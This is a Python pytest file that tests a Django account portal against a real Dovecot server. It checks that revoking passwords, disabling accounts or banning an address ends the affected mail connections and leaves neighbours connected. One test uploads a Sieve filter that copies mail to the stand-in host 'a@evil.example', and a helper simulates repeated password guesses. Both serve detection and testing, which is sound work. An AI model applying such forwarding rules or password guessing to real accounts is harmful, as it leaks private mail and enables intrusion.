"""Every way of revoking ends what mail programs have open, at a real Dovecot: IMAP in IDLE, POP3 with the mailbox open,
submission between two mails, ManageSieve. Neighbours stay connected.

The account that Dovecot lets in lives in the database of the mail system; what is done here, on the pages, is done to
its namesake in the test's. Dovecot is told names.
"""

from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from ipaddress import ip_network

import pytest
from django.test import TestCase
from django.utils import timezone
from pytest_django import Settings

from accounts.log.models import SecurityEvent
from accounts.mailsessions import dovecot, mailsessions
from accounts.mailsessions.mailsessions import Why
from accounts.mailsessions.models import Ending
from accounts.sessions.endings import ENDS, What
from accounts.users.models import User
from apppasswords import passwords
from portal.development.management.commands import up
from tests.accounts.sessions.test_endings import WAYS as OTHER_WAYS
from tests.accounts.sessions.test_endings import Open, opened
from tests.conftest import MakeUser
from tests.kit import mail_programs, upkeep
from tests.kit.counter import press
from tests.kit.mail_programs import IN, Mailbox
from tests.kit.open_programs import PROTOCOLS, OpenPrograms
from tests.kit.paperwork import pk
from tests.kit.people import NUMBER, Person
from tests.kit.servers.mail import DOVEADM_KEY, MailSystem
from tests.kit.waiting import wait_until

pytestmark = pytest.mark.slow

__all__ = ["opened"]  # the fixture, with our own `wangwu`

EVERY = set(PROTOCOLS)


@pytest.fixture
def told(mail_system: MailSystem, settings: Settings) -> None:
    """What is revoked here is told to the real Dovecot."""
    settings.DOVEADM_URLS = [mail_system.doveadm_url()]
    settings.DOVEADM_API_KEY = DOVEADM_KEY


@pytest.fixture
def wangwu(make_user: MakeUser, staff: Mailbox) -> Person:
    person = Person(make_user(staff.name, name="王五", phone=NUMBER))
    assert person.user
    passwords.create(person.user, "phone")
    return person


@pytest.fixture
def programs(staff: Mailbox) -> Iterator[OpenPrograms]:
    with closing(OpenPrograms(staff)) as programs:
        assert programs.still() == EVERY
        yield programs


@pytest.fixture
def neighbour(colleague: Mailbox, staff: Mailbox) -> Iterator[OpenPrograms]:
    """At the same address: behind one router."""
    colleague.address = staff.address
    with closing(OpenPrograms(colleague)) as programs:
        yield programs


# --- The ways --------------------------------------------------------------------------------------------------------


def _app_password_removed(opened: Open) -> None:
    opened.owner.post("/app-passwords/", {"remove": passwords.of(User.objects.get(pk=pk(opened.owner))).get().pk})


def _all_app_passwords_removed(opened: Open) -> None:
    opened.owner.post("/app-passwords/remove-all/")


def _app_password_removed_by_the_desk(opened: Open) -> None:
    row = passwords.of(User.objects.get(pk=pk(opened.owner))).get()
    press(opened.office, opened.owner, "app_password", held=str(row.pk))


def _app_passwords_removed_by_the_desk(opened: Open) -> None:
    press(opened.office, opened.owner, "app_passwords")


def _banned_at_an_address(opened: Open) -> None:
    name = User.objects.get(pk=pk(opened.owner)).username
    for number in range(10):
        Person(REMOTE_ADDR=opened.owner.defaults["REMOTE_ADDR"]).enter_password(f"guess-{number}", name=name)
    upkeep.sweep()


WAYS: dict[Callable[[Open], None], set[str]] = {
    way: EVERY if What.MAIL in ENDS[occasion].here | ENDS[occasion].with_it else set()
    for way, (occasion, _ends) in OTHER_WAYS.items()
} | {
    _app_password_removed: EVERY,
    _all_app_passwords_removed: EVERY,
    _app_password_removed_by_the_desk: EVERY,
    _app_passwords_removed_by_the_desk: EVERY,
    _banned_at_an_address: EVERY,
}


@pytest.mark.share(3)
@pytest.mark.bypass("owncloud/core#28553: what is connected goes on")
@pytest.mark.usefixtures("told")
@pytest.mark.parametrize("way", WAYS, ids=lambda way: way.__name__.strip("_"))
def test_what_is_connected_ends_with_what_opened_it(
    opened: Open,
    way: Callable[[Open], None],
    programs: OpenPrograms,
    neighbour: OpenPrograms,
    settings: Settings,
) -> None:
    settings.DOVEADM_URLS = [programs.mailbox.system.doveadm_url()]  # the fixture `opened` has another one
    settings.SHARED_NETWORKS = [ip_network("127.0.0.0/8")]
    opened.owner.defaults["REMOTE_ADDR"] = programs.mailbox.address
    with TestCase.captureOnCommitCallbacks(execute=True):
        way(opened)
    wait_until(lambda: programs.still() == EVERY - WAYS[way])  # Dovecot is told; its processes go one by one
    assert neighbour.still() == EVERY
    row = Ending.objects.first()
    assert (row is not None) == bool(WAYS[way])
    if row:
        assert row.people == {programs.mailbox.name: 4}
        event = SecurityEvent.objects.filter(kind="mail_ended").latest("pk")
        assert (event.username, event.detail) == (programs.mailbox.name, {"connections": 4})


@pytest.mark.django_db
@pytest.mark.usefixtures("told")
def test_a_program_that_comes_in_just_after_is_out_a_moment_later(programs: OpenPrograms, staff: Mailbox) -> None:
    with TestCase.captureOnCommitCallbacks(execute=True):
        mailsessions.end([staff.name], Why.NOT_ME)
    assert programs.still() == set()
    with closing(OpenPrograms(staff)) as late:  # its login was allowed before, and took its time
        Ending.objects.update(sweep_at=timezone.now())
        upkeep.sweep()
        assert late.still() == set()


@pytest.mark.django_db
@pytest.mark.usefixtures("told")
def test_behind_nginx_too(nginx: MailSystem, staff: Mailbox, colleague: Mailbox, settings: Settings) -> None:
    settings.DOVEADM_URLS += [nginx.doveadm_url("behind_doveadm")]
    mine, others = OpenPrograms(staff, way="nginx_"), OpenPrograms(colleague, way="nginx_")
    with closing(mine), closing(others):
        assert mine.still() == EVERY
        with TestCase.captureOnCommitCallbacks(execute=True):
            mailsessions.end([staff.name], Why.DISABLED)
        assert mine.still() == set()
        assert others.still() == EVERY
    assert Ending.objects.get().people == {staff.name: 4}, "ManageSieve is at the other Dovecot"


def test_a_worker_does_it_at_once(programs: OpenPrograms, neighbour: OpenPrograms, staff: Mailbox) -> None:
    """The mailbox that Dovecot asks about, the queue, a real worker."""
    with _worker(staff.system):
        staff.system.people("remove_app_password", staff.name, "phone")
        wait_until(lambda: programs.still() == set(), 30)  # it has to start first
        assert neighbour.still() == EVERY
        staff.system.people("app_password", staff.name, "tablet")


def test_who_leaves_a_department_is_out_and_the_colleague_is_back(staff: Mailbox, colleague: Mailbox) -> None:
    """Dovecot knows the mailbox and not who is at it: whose password still opens it signs in again."""
    system, office = staff.system, Mailbox(staff.system)
    system.people("share", office.name, staff.name, colleague.name)
    leaves, stays = (system.people("shared_app_password", office.name, who.name) for who in (staff, colleague))
    for refused in (office.app_password, office.password):
        assert office.enters(refused) != IN, "what opened it before"
    with _worker(system), closing(OpenPrograms(office, leaves)) as his, closing(OpenPrograms(staff)) as own:
        system.people("dismiss", office.name, staff.name)
        wait_until(lambda: his.still() == set(), 30)
        assert {office.enters(leaves, way) == IN for way in EVERY} == {False}
        assert {office.enters(stays, way) == IN for way in EVERY} == {True}
        assert own.still() == EVERY, "his own mailbox is another one"


@contextmanager
def _worker(system: MailSystem) -> Iterator[None]:
    worker = system.service("worker", *up.worker())
    worker.begin()
    try:
        yield
    finally:
        worker.stop()


@pytest.mark.usefixtures("told")
def test_where_a_filter_sends_mail_on_is_told(mail_system: MailSystem, staff: Mailbox) -> None:
    with mail_programs.sieve(mail_system, staff.address, "sieve") as connection:
        assert mail_programs.enter_sieve(connection, staff.name, staff.app_password) == IN
        mail_programs.put_filter(connection, 'require "copy";\r\nredirect :copy "a@evil.example";\r\n')
    assert dovecot.forwards(mail_system.doveadm_url(), staff.name) == ["a@evil.example"]
    assert dovecot.forwards(mail_system.doveadm_url(), Mailbox(mail_system).name) == [], "who has no filter"


@pytest.mark.django_db
@pytest.mark.usefixtures("told")
def test_the_key_opens_nobodys_mail(mail_system: MailSystem, staff: Mailbox) -> None:
    fetch = {"user": staff.name, "field": ["text"], "query": ["ALL"]}
    for command, parameters in (("fetch", fetch), ("reload", {}), ("mailboxDelete", {"user": staff.name})):
        with pytest.raises(dovecot.Away, match="refuses the command"):
            dovecot._ask(mail_system.doveadm_url(), [(command, parameters)])
